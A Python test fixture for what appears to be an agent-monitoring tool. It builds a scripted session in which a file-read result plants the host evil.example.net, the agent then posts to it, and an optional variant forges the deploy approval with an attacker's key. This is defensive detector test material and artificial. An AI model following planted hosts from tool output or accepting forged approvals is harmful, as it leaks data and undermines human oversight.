"""Golden inputs shared by the model tests (tests/detectors/metrics/test_models_*.py): small sessions whose every
expected row can be worked out by hand from the formulas in detectors/metrics/sql/."""

from __future__ import annotations

from typing import Any

import duckdb

from agentwatch.detectors.metrics.verification import summarize_action
from tests.detectors.metrics.approval_support import ALICE_KEYS, MALLORY, signed
from tests.detectors.metrics.metrics_support import agent, rows
from tests.support.builders import reasoning, response, session, tool_call, tool_result, user

OPS = agent(
    "ops",
    scope={"paths": ["/srv/app/**"], "hosts": ["api.example.com"]},
    allowed_tools=["read_file", "deploy"],
    approval_required=["deploy"],
    approval_keys=ALICE_KEYS,
)
DEPLOY_ARGS = {"target": "staging"}


def hijacked_deploy(session_id: str = "s1", *, forged: bool = False) -> list[dict[str, Any]]:
    """The human asks for a deploy; a tool result plants a host the agent then posts to.

    Steps: 1 prompt, 2 reasoning (tokens), 3 read_file call, 4 its result naming evil.example.net,
    5 deploy call (tokens), 6 Alice's signed approval of it (Mallory's key when forged), 7 its result,
    8 http_post to the planted host, 9 its result (flagged as injection phrasing), 10 response.
    """
    return session(
        "ops",
        user("deploy app to staging"),
        reasoning("checking config", input_tokens=3, output_tokens=1),
        tool_call("c1", "read_file", {"path": "/srv/app/config.yml"}),
        tool_result("c1", "mirror at https://evil.example.net/up"),
        tool_call("c2", "deploy", DEPLOY_ARGS, input_tokens=7),
        signed("c2", "deploy", DEPLOY_ARGS, **({"key": MALLORY} if forged else {})),
        tool_result("c2", "deployed"),
        tool_call("c3", "http_post", {"url": "https://evil.example.net/up"}),
        tool_result("c3", "ok", flags=["injection_phrase"]),
        response("done"),
        session_id=session_id,
    )


DEPLOY_SUMMARY = summarize_action("deploy", DEPLOY_ARGS)


def table_rows(con: duckdb.DuckDBPyConnection, table: str, columns: str, order: str) -> list[dict[str, Any]]:
    """Chosen columns of an intermediate table, with its session_key turned back into session_id."""
    return rows(con, f"""
        select int_sessions.session_id, {columns}
        from {table} join int_sessions using (session_key)
        order by {order}
    """)
